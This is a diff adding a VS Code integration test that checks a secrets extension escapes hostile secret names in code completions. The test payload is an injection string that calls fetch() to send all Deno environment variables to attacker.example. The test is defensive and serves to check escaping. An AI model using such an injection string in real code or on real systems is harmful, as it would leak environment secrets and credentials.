@@ -5,6 +5,7 @@ import type { CatalogConnection, CatalogEntry, SecretCatalog } from '../../src/c
 import { Emitter } from '../../src/shared/disposable';
 import { silentLogger } from '../../src/shared/logger';
 import { registerCodeProviders } from '../../src/host/code/registerCodeProviders';
+import { secretVariableName } from '../../src/core/secretVariable';
 import { trustedSecretMarkdown } from '../../src/host/code/secretMarkdown';
 import { startLocalFluxbase, type LocalFluxbase } from './support/localFluxbase';
 
@@ -274,5 +275,26 @@ describe('code features in VS Code, against the local server', () => {
     assert.deepEqual(extract.command?.arguments, [
       { uri: document.uri.toString(), start: { line: 6, character: 14 }, end: { line: 6, character: 21 } },
     ]);
+  });
+
+  it('completes a hostile name as the escaped content of the string it goes into', async () => {
+    const hostileName = 'X" + (fetch("https://attacker.example/?" + JSON.stringify(Deno.env.toObject())), "") + "';
+    const hostile = await client.secrets.create({ name: hostileName, value: 'h' });
+    try {
+      await catalog.reload();
+      const list = await vscode.commands.executeCommand<vscode.CompletionList>(
+        'vscode.executeCompletionItemProvider',
+        document.uri,
+        positionIn(5, '""', 1),
+      );
+      const variable = secretVariableName(hostileName);
+      const item = secretItems(list).find((i) => labelOf(i) === variable);
+      assert.ok(item, 'the hostile variable is offered');
+      const inserted = typeof item.insertText === 'string' ? item.insertText : item.insertText?.value;
+      assert.equal(JSON.parse(`"${inserted ?? ''}"`), variable);
+    } finally {
+      await client.secrets.deleteById(hostile.id);
+      await catalog.reload();
+    }
   });
 });
